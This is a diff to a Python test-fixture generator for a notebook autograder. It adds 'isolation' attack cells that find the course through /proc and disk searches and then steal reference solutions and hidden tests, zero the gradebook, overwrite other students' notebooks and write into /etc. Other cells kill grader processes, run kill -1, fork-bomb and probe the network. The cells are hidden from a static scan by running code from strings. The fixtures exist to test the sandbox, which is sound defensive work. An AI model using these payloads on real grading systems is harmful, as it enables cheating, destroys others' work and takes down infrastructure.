@@ -17,7 +17,11 @@ hostile case's score with that of its base. The other kinds:
 - ``crash``: code that ends the kernel, or the grading process that started it;
 - ``tampering``: edits of the test cells, their metadata or the grading helpers, aimed at
   a score the code does not earn (these start from ``wrong``, so any gain shows);
-- ``bad_file``: the notebook renamed, in an old format, truncated, missing or doubled.
+- ``bad_file``: the notebook renamed, in an old format, truncated, missing or doubled;
+- ``isolation``: code that uses only ordinary modules to read the reference, the hidden
+  tests or other students' work, write outside its folder, signal other processes, fork
+  without end, reach the network or leave processes behind (the sandbox's cases);
+- ``honest``: correct submissions graded beside the isolation cases.
 
 None of these should be executed outside a sandboxed grading run: some loop forever, take
 8 GiB, or kill the process that started the kernel.
@@ -348,5 +352,424 @@ def cases(release_nb, source_nb):
         "two notebooks, draft.ipynb (blank) and final.ipynb (correct), neither the expected name",
         files={"draft.ipynb": dumps(bases["blank"]), "final.ipynb": correct_bytes})
 
+    # -- isolation (each beside an honest student, whose grade must not change)
+    for name, base, what, content in isolation_cases(release_nb, reference):
+        if isinstance(content, nbformat.NotebookNode):
+            add(name, "isolation", base, what, content)
+        else:
+            add(name, "isolation", base, what, files=content)
+    for kind in ("fork", "read", "signal", "write"):
+        add(f"{kind}_zz_honest", "honest", "correct",
+            f"the reference solution, graded in the same shard as the {kind}_ cases", correct)
+
     assert len({c.name for c in out}) == len(out), "case names must be unique"
     return out
+
+
+# ---------------------------------------------------------------------------------------
+# Isolation: code that uses only ordinary modules to reach past its own submission.
+#
+# Each attack cell prints one line, ``ATTACK {json}``, saying what it found and did, so a
+# test can check that it found nothing (tests/test_hostile.py reads it from the autograded
+# notebook). ``TOOLKIT`` is what every attack cell starts with: ways to find the course
+# from inside a kernel, as a student who has read this repository would look for it.
+
+LISTEN_PORT = 47913  # tests/test_hostile.py listens here on the host's loopback
+LISTEN_ABSTRACT = "em-hostile-listener"  # and on this abstract Unix socket
+MARKER = "em-hostile-marker"  # files the write attacks leave wherever they can
+LINGER_SECONDS = 3617  # the lingering processes run `sleep 3617`
+
+TOOLKIT = '''
+import json, os, pathlib
+
+def _walk_up():
+    here = pathlib.Path.cwd()
+    return [here, *here.parents]
+
+def _through_proc():
+    found = []
+    for proc in pathlib.Path("/proc").glob("[0-9]*"):
+        for what in ("cwd", "root"):
+            try:
+                found.append(pathlib.Path(os.readlink(proc / what)))
+            except OSError:
+                pass
+        try:
+            env = (proc / "environ").read_bytes().split(b"\\0")
+            found += [pathlib.Path(e[4:].decode()) for e in env if e.startswith(b"PWD=")]
+        except OSError:
+            pass
+    return [f for start in found for f in [start, *start.parents]]
+
+def _search(limit=20000):
+    found, seen = [], 0
+    for where, dirs, files in os.walk("/"):
+        seen += 1
+        dirs[:] = [d for d in dirs if os.path.join(where, d) not in ("/proc", "/sys", "/dev", "/usr")
+                   and where.count("/") < 8]
+        if "nbgrader_config.py" in files or "gradebook.db" in files:
+            found.append(pathlib.Path(where))
+        if seen > limit:
+            break
+    return found
+
+def _course_roots(ways=("up", "proc", "search")):
+    starts = []
+    if "up" in ways: starts += _walk_up()
+    if "proc" in ways: starts += _through_proc()
+    if "search" in ways: starts += _search()
+    roots = []
+    for folder in starts:
+        try:
+            if ((folder / "nbgrader_config.py").exists() or (folder / "gradebook.db").exists()) \\
+                    and folder not in roots:
+                roots.append(folder)
+        except OSError:
+            pass
+    return roots
+
+def _notebooks(roots, patterns):
+    return sorted({str(p) for root in roots for pattern in patterns for p in root.glob(pattern)})
+
+def _use_solutions(path):
+    """Run the solution cells of the notebook at ``path`` here, as if written by hand."""
+    import code
+    nb = json.loads(pathlib.Path(path).read_text())
+    used = 0
+    for cell in nb["cells"]:
+        meta = cell.get("metadata", {}).get("nbgrader", {})
+        source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
+        if cell["cell_type"] != "code" or not meta.get("solution") or "NotImplementedError" in source:
+            continue
+        source = "\\n".join(l for l in source.splitlines() if "### " not in l and not l.startswith("%"))
+        code.InteractiveInterpreter(globals()).runsource(source, "<found>", "exec")
+        used += 1
+    return used
+
+def _report(**what):
+    print("ATTACK " + json.dumps(what, default=str))
+'''
+
+
+def attack(body):
+    """An attack cell: the toolkit, then ``body``, run from a string the scan cannot read.
+
+    The scan (grading/scan.py) reads code, not strings: run through ``code``'s interpreter,
+    the attack is not held for review, and only the sandbox stands in its way. What the
+    attack defines (stolen solutions) is in the dict ``_stolen``.
+    """
+    source = TOOLKIT + textwrap.dedent(body)
+    return ("import code as _code\n_stolen = {'np': np}\n"
+            f"_code.InteractiveInterpreter(_stolen).runsource({source!r}, '<attack>', 'exec')")
+
+
+def defined_name(code):
+    """The name a solution cell defines: its first function, or its first assigned name."""
+    for node in ast.parse(code).body:
+        if isinstance(node, ast.FunctionDef):
+            return node.name
+        if isinstance(node, ast.Assign):
+            return node.targets[0].id
+    raise ValueError(code)
+
+
+def stealing(release_nb, reference, body):
+    """The release notebook whose solution cells take what ``body`` stole (``_stolen``).
+
+    An attack cell after the imports runs ``body``; each solution cell then binds its name
+    to what the attack found, or to None (so it scores what a blank notebook does).
+    """
+    answers = {gid: f"{defined_name(code)} = _stolen.get({defined_name(code)!r})"
+               for gid, code in reference.items()}
+    return insert_after(notebooks.make_submission(release_nb, answers), "imports", attack(body))
+
+
+READ_REFERENCE = '''
+roots = _course_roots(WAYS)
+found = _notebooks(roots, ["source/*/*.ipynb"])
+used = sum(_use_solutions(p) for p in found[:1])
+_report(roots=[str(r) for r in roots], found=found, used=used)
+'''
+
+READ_OTHERS = '''
+roots = _course_roots()
+mine = pathlib.Path.cwd().parent.name
+found = [p for p in _notebooks(roots, ["submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb",
+                                        ".grading/staged/*/*/*.ipynb"]) if mine not in p]
+used = 0
+for path in found:
+    if "NotImplementedError()" not in pathlib.Path(path).read_text():
+        used = _use_solutions(path)
+        break
+_report(roots=[str(r) for r in roots], found=found[:20], used=used)
+'''
+
+READ_GRADEBOOK = '''
+import sqlite3
+roots = _course_roots()
+hidden = []
+for root in roots:
+    try:
+        db = sqlite3.connect(f"file:{root / 'gradebook.db'}?mode=ro", uri=True)
+        hidden += [row[0] for row in db.execute("SELECT source FROM source_cell")
+                   if "BEGIN HIDDEN TESTS" in row[0]]
+    except sqlite3.Error:
+        pass
+_report(roots=[str(r) for r in roots], found=len(hidden))
+'''
+
+READ_LINK = '''
+used = 0
+for name in ("reference.ipynb", "shard_reference.ipynb"):
+    try:
+        used += _use_solutions(name)
+    except OSError as error:
+        _report(name=name, error=str(error))
+_report(folder=sorted(os.listdir(".")), used=used)
+'''
+
+WRITE_COURSE = '''
+roots = _course_roots(WAYS)
+done = []
+for root in roots:
+    for name in ("nbgrader_config.py", "Makefile", "README.md"):
+        try:
+            with (root / name).open("a") as f:
+                f.write("\\n# MARKER\\nc.Execute.timeout = 1\\n")
+            done.append(str(root / name))
+        except OSError:
+            pass
+    for path in root.glob("source/*/em_grading.py"):
+        try:
+            path.write_text("def check_close(*a, **k): pass\\n")
+            done.append(str(path))
+        except OSError:
+            pass
+    try:
+        (root / "source" / "MARKER.py").write_text("x = 1\\n")
+        done.append(str(root / "source" / "MARKER.py"))
+    except OSError:
+        pass
+_report(roots=[str(r) for r in roots], done=done)
+'''.replace("MARKER", MARKER)
+
+WRITE_GRADEBOOK = '''
+import sqlite3
+roots = _course_roots()
+done = []
+for root in roots:
+    try:
+        db = sqlite3.connect(str(root / "gradebook.db"))
+        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
+        db.execute("UPDATE grade_cell SET max_score = 1000")
+        db.commit()
+        done.append(str(root / "gradebook.db"))
+    except sqlite3.Error:
+        pass
+_report(roots=[str(r) for r in roots], done=done)
+'''
+
+WRITE_OTHERS = '''
+roots = _course_roots()
+mine = pathlib.Path.cwd().parent.name
+blank = pathlib.Path("em_prankster.ipynb").read_text()
+done = []
+for path in _notebooks(roots, ["submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb",
+                               ".grading/staged/*/*/*.ipynb", ".shards/*/submitted/*/*/*.ipynb"]):
+    if mine in path:
+        continue
+    try:
+        pathlib.Path(path).write_text(blank)
+        done.append(path)
+    except OSError:
+        pass
+_report(roots=[str(r) for r in roots], done=done)
+'''
+
+WRITE_HOME_TMP = '''
+done = []
+for folder in (os.path.expanduser("~"), "/root", "/tmp", "/var/tmp", "/dev/shm",
+               os.path.expanduser("~/.ipython/profile_default/startup"), "/etc", "/usr/local/bin"):
+    try:
+        pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
+        (pathlib.Path(folder) / "MARKER").write_text("was here\\n")
+        done.append(folder)
+    except OSError:
+        pass
+_report(done=done, home=os.path.expanduser("~"))
+'''.replace("MARKER", MARKER)
+
+SIGNAL_BY_NAME = '''
+import signal
+found, done = [], []
+for proc in pathlib.Path("/proc").glob("[0-9]*"):
+    try:
+        cmd = (proc / "cmdline").read_bytes().replace(b"\\0", b" ").decode()
+    except OSError:
+        continue
+    if int(proc.name) == os.getpid() or not any(
+            w in cmd for w in ("nbgrader", "grading.parallel", "pytest", "ipykernel", "bwrap")):
+        continue
+    found.append(cmd[:80])
+    for sig in (signal.SIGSTOP, signal.SIGKILL):
+        try:
+            os.kill(int(proc.name), sig)
+            done.append(proc.name)
+        except OSError:
+            pass
+_report(found=found, done=done)
+'''
+
+SIGNAL_EVERYONE = '''
+import signal
+done = []
+for proc in pathlib.Path("/proc").glob("[0-9]*"):
+    if int(proc.name) != os.getpid():
+        try:
+            os.kill(int(proc.name), signal.SIGKILL)
+            done.append(proc.name)
+        except OSError:
+            pass
+_report(done=done)
+os.kill(-1, signal.SIGKILL)  # everything it may signal, itself included
+'''
+
+FORK_PROCESSES = '''
+import time
+children, error = 0, None
+try:
+    while True:
+        if os.fork() == 0:  # each child waits until all are there, then keeps a core busy
+            time.sleep(3)
+            while True:
+                pass
+        children += 1
+except OSError as e:
+    error = str(e)
+_report(children=children, error=error)
+'''
+
+FORK_THREADS = '''
+import threading, time
+started, error = 0, None
+try:
+    for _ in range(100_000):
+        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
+        started += 1
+except RuntimeError as e:
+    error = str(e)
+_report(threads=started, error=error)
+'''
+
+NETWORK = f'''
+import socket
+result = {{"interfaces": [name for _, name in socket.if_nameindex()]}}
+try:
+    result["routes"] = pathlib.Path("/proc/net/route").read_text().splitlines()[1:]
+except OSError as e:
+    result["routes"] = str(e)
+def _try(family, address):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(3)
+    try:
+        s.connect(address)
+        s.sendall(b"hello from a kernel\\n")
+        return "connected"
+    except OSError as e:
+        return "failed: " + str(e)
+    finally:
+        s.close()
+result["grader_loopback"] = _try(socket.AF_INET, ("127.0.0.1", {LISTEN_PORT}))
+result["grader_abstract"] = _try(socket.AF_UNIX, "\\0{LISTEN_ABSTRACT}")
+try:
+    result["dns"] = str(socket.getaddrinfo("pypi.org", 443)[:1])
+except OSError as e:
+    result["dns"] = "failed: " + str(e)
+_report(**result)
+'''
+
+LINGER = f'''
+pid = os.fork()
+if pid == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv("/usr/bin/sleep", ["sleep", "{LINGER_SECONDS}"])
+    os._exit(0)
+os.waitpid(pid, 0)
+import threading, time
+def _later():
+    time.sleep(2)
+    for root in _course_roots(("up", "proc")):
+        try:
+            (root / "{MARKER}-later").write_text("x")
+        except OSError:
+            pass
+threading.Thread(target=_later).start()
+_report(forked=True)
+'''
+
+
+def isolation_cases(release_nb, reference, course_hint="../../.."):
+    """The isolation cases: (name, base, what, notebook or files).
+
+    ``course_hint``: the course folder relative to ``submitted/<student>/em_prankster/``, as
+    a student who has read the README would guess it.
+    """
+    blank = copy.deepcopy(release_nb)
+    correct = notebooks.make_submission(release_nb, reference)
+    out = []
+    for ways, name in [(("up",), "read_reference_walking_up"), (("proc",), "read_reference_via_proc"),
+                       (("search",), "read_reference_by_search")]:
+        out.append((name, "blank", f"looks for source/ ({ways[0]}), runs the reference's solutions",
+                    stealing(release_nb, reference, READ_REFERENCE.replace("WAYS", repr(ways)))))
+    out.append(("read_other_students", "blank", "runs another student's solved notebook",
+                stealing(release_nb, reference, READ_OTHERS)))
+    out.append(("read_hidden_tests", "blank", "reads the hidden tests from gradebook.db",
+                insert_after(blank, "imports", attack(READ_GRADEBOOK))))
+    out.append(("read_through_links", "blank",
+                "hands in links to source/'s notebook, relative to submitted/ and to a shard",
+                {NOTEBOOK: dumps(stealing(release_nb, reference, READ_LINK)),
+                 "reference.ipynb": Symlink(f"{course_hint}/source/em_prankster/{NOTEBOOK}"),
+                 "shard_reference.ipynb": Symlink(f"../../../{course_hint}/source/em_prankster/{NOTEBOOK}")}))
+    for name, code, what in [
+        ("write_course_files", WRITE_COURSE.replace("WAYS", "('up', 'proc', 'search')"), "appends to nbgrader_config.py, Makefile, README; "
+         "replaces em_grading.py in source/"),
+        ("write_gradebook", WRITE_GRADEBOOK, "zeroes every grade in gradebook.db"),
+        ("write_other_students", WRITE_OTHERS, "overwrites other students' notebooks with blanks"),
+        ("write_home_and_tmp", WRITE_HOME_TMP, "leaves files in the home folder, /tmp, /etc ..."),
+        ("net_connections", NETWORK, "lists interfaces, connects to the grader's loopback, DNS"),
+        ("linger_after_kernel", LINGER, "leaves a `sleep` and a thread behind to act later"),
+        ("signal_grader_by_name", SIGNAL_BY_NAME, "stops and kills nbgrader, pytest, other kernels"),
+    ]:
+        out.append((name, "correct", what, insert_after(correct, "imports", attack(code))))
+    out.append(("signal_everyone", "correct",
+                "the answer_location cell SIGKILLs every process it sees, then all it may (kill -1)",
+                edit_solutions(release_nb, reference, {
+                    "answer_location": at_end(attack(SIGNAL_EVERYONE))})))
+    out.append(("fork_processes", "correct", "a cell after run_m_step forks busy children until refused",
+                insert_after(correct, "run_m_step_loops", attack(FORK_PROCESSES))))
+    out.append(("fork_threads", "correct", "a cell after imports starts threads until refused",
+                insert_after(correct, "imports", attack(FORK_THREADS))))
+    return out
+
+
+def unsandboxed_cases(release_nb, reference):
+    """Attacks that succeed without the sandbox and harm only the course they are graded in.
+
+    They look for the course only by walking up from the working folder, so run without
+    the sandbox (tests/test_hostile.py does, in a throw-away course, to show that the
+    isolation tests can fail) they never reach another course on the machine.
+    """
+    correct = notebooks.make_submission(release_nb, reference)
+    return [
+        ("read_reference_walking_up", "blank", "walks up to source/, runs the reference",
+         stealing(release_nb, reference, READ_REFERENCE.replace("WAYS", "('up',)"))),
+        ("write_course_files", "correct", "walks up, appends to nbgrader_config.py",
+         insert_after(correct, "imports", attack(WRITE_COURSE.replace("WAYS", "('up',)")))),
+    ]
+
+
+@dataclass
+class Symlink:
+    """A file of a case that is a symbolic link to ``target``."""
+    target: str
